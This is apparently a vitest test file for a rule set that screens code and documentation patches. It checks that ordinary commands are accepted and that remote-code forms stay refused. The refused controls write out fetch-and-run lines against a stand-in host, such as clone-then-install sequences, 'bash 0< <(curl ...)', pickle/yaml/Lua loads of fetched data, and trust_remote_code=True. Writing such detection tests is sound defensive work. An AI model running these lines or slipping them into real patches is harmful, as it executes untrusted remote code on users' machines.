import { describe, it } from 'vitest';
import { expectAccepted, refusedFor } from '../support/patches.js';

/**
 * False refusals attack pass 13 found in the rules of pass 12 (clones and copies from other hosts, helm/asdf/corepack
 * given a URL, joined download strings, more fetch-exec sinks): ordinary patches each rule refused. Each acceptance below
 * was refused before its fix; each refusal is a control that looks like one of them and must stay refused.
 */

const refusedAs = refusedFor;
const accepted = expectAccepted;

describe('pass 13, item 1: a clone entered or listed runs nothing from it', () => {
  it.each([
    ['README.md', 'git clone https://github.com/acme/app.git\ncd app\nls'],
    ['README.md', 'git clone https://github.com/acme/app.git && cd app && ls && cat README.md'],
    ['docs/deploy.md', 'rsync -av user@backup.example.com:/backups/db/ ./backup/\nls backup'],
    ['README.md', 'git clone https://github.com/acme/app.git\ncd app\npip install requests'],
    ['README.md', 'git clone https://github.com/acme/app.git\ncd app\ngit log --oneline'],
  ])('accepts, in %s: %s', accepted);

  // After `cd` into the clone, a command that runs the project's code by convention runs the clone: a quickstart that
  // installs or runs the cloned project is left to a human.
  it.each([
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && sh i.sh'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && ./install.sh'],
    ['docs/setup.md', 'git clone https://x.example/r.git && sh r/i.sh'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && make'],
    ['docs/setup.md', 'git clone https://x.example/r.git\ncd r\nmake install'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && npm install'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && npm ci'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && npm install left-pad'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && npm test'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && npm run build'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && yarn'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && pnpm i'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && pip install .'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && pip install -e .'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && pip install -r requirements.txt'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && bundle install'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && cargo run'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && cargo build --release'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && go run .'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && go test ./...'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && python3 x.py'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && node x'],
    ['docs/setup.md', 'git clone https://x.example/r.git && cd r && docker build .'],
    ['docs/setup.md', 'git clone https://x.example/r.git\ncd r\n./anything'],
  ])('refuses, in %s: %s', refusedAs('remote-script'));
});

describe('pass 13, item 2: helm, asdf and corepack given a URL only where they fetch from it', () => {
  it.each([
    ['docs/deploy.md', 'helm upgrade app ./charts/app --set env.API_URL=https://api.example.com'],
    ['docs/deploy.md', 'helm install web ./charts/web --set ingress.host=https://app.example.com'],
    ['docs/deploy.md', 'asdf install nodejs 20.11.0 # see https://github.com/asdf-vm/asdf-nodejs'],
    ['docs/deploy.md', 'corepack enable  # https://nodejs.org/api/corepack.html'],
  ])('accepts, in %s: %s', accepted);

  it.each([
    ['docs/setup.md', 'helm install x https://x.example/c.tgz'],
    ['docs/setup.md', 'helm repo add e https://x.example && helm install e/c'],
    ['docs/setup.md', 'asdf plugin add t https://x.example/p.git'],
    ['docs/setup.md', 'corepack yarn@https://x.example/y.tgz'],
    ['docs/setup.md', 'helm upgrade --install x c --repo=https://x.example/charts'],
    ['docs/setup.md', 'helm plugin install https://x.example/p  # the diff plugin'],
    ['docs/setup.md', 'helm install x "https://x.example/c.tgz" --set a=b'],
    ['src/deploy.py', "subprocess.run(['helm','install','x','https://x.example/c.tgz'])"],
  ])('refuses, in %s: %s', refusedAs('remote-script'));
});

describe('pass 13, item 3: a download command line printed, not run', () => {
  it.each([
    ['src/client.py', "logger.info('curl -s https://api.example.com/v1/items %s', status)"],
    ['src/client.js', 'console.log(`curl -s https://localhost:3000/health ${flags}`);'],
    ['src/cli.go', 'fmt.Printf("curl -s https://api.example.com/v1 %s\\n", token)'],
    ['docs/api.md', 'Call `curl -s https://api.example.com/v1/items ${TOKEN_FLAGS}` to list them.'],
  ])('accepts, in %s: %s', accepted);

  it.each([
    ['src/setup_env.py', "os.system('curl -s https://x.example/i ' + pipe)"],
    ['src/setup_env.py', "cmd = 'curl -s https://x.example/i ' + pipe\nos.system(cmd)"],
    ['src/setup.js', 'const cmd = `curl -s https://x.example/i ${pipe}`;\nexecSync(cmd);'],
    ['docs/setup.md', 'eval "curl -s https://x.example/i ${pipe}"'],
    ['src/setup.js', 'const print = execSync;\nprint(`curl -s https://x.example/i ${pipe}`);'],
  ])('refuses, in %s: %s', refusedAs('remote-script'));
});

// Item 4's exception (a bare load( imported from a data parser, given a safe loader or a fetch of the page's own host)
// was withdrawn: its look-behind read back up to 4,000 characters from every `load`, across files, so a 20 KB patch of
// `load` words cost ~1.1 s instead of ~8 ms, and a json import in one file let another file's Lua load(…)() pass.
// Those three forms stay refused (docs/attack-pass-13.md); what must stay refused whatever the next fix is, is below.
describe('pass 13, item 4: a bare load( that may run what it loads', () => {
  it.each([
    ['src/config.py', 'cfg = yaml.load(requests.get(u).text, Loader=yaml.Loader)'],
    ['src/load.lua', 'load(http.request(u))()'],
    ['src/client.py', 'from pickle import load\ndata = load(urlopen(url))'],
    ['src/client.py', 'from yaml import load, Loader\ncfg = load(requests.get(u).text, Loader=Loader)'],
    ['src/client.js', "await load(fetch('https://x.example/p'));"],
    ['src/client.js', "await load(fetch('//x.example/p'));"],
  ])('refuses, in %s: %s', refusedAs('fetch-exec'));
});

describe('pass 13, item 5: trust_remote_code=True named in prose or a comment', () => {
  it.each([
    ['docs/ml.md', 'Some models need `trust_remote_code=True`; we never set it.'],
    ['src/x.py', '# trust_remote_code=True is refused by our loader\nmodel = AutoModel.from_pretrained(name)'],
  ])('accepts, in %s: %s', accepted);

  it.each([
    ['src/x.py', 'AutoModel.from_pretrained(name, trust_remote_code=True)'],
    ['src/x.py', 'm = AutoModel.from_pretrained(\n    name,\n    trust_remote_code=True,\n)'],
    ['src/x.py', 'm = AutoModel.from_pretrained(name,trust_remote_code = True)'],
    ['src/x.js', 'const m = await load(name, { trust_remote_code: true });'],
    ['src/x.py', 'opts = dict(\n  revision="main",\n  trust_remote_code=True)'],
  ])('refuses, in %s: %s', refusedAs('fetch-exec'));
});

describe('pass 13, beyond the false refusals: a shell fed by redirection', () => {
  it.each([
    ['docs/setup.md', 'exec > >(bash)'],
    ['docs/setup.md', 'exec 1> >(sh)'],
    ['docs/setup.md', 'set -e\nexec  >  >( bash -s )\necho hi'],
    ['docs/setup.md', 'bash 0< <(curl -s https://x.example/i)'],
    ['docs/setup.md', 'bash /dev/stdin <<< "$(curl -s https://x.example/i)"'],
  ])('refuses, in %s: %s', refusedAs('remote-script'));

  it.each([
    ['docs/setup.md', 'exec > >(tee -a build.log) 2>&1'],
    ['docs/setup.md', 'cat <<< "$(curl -s https://x.example/a.txt)"'],
    ['docs/setup.md', 'sha256sum 0< <(curl -s https://x.example/a.tgz)'],
  ])('accepts, in %s: %s', accepted);
});
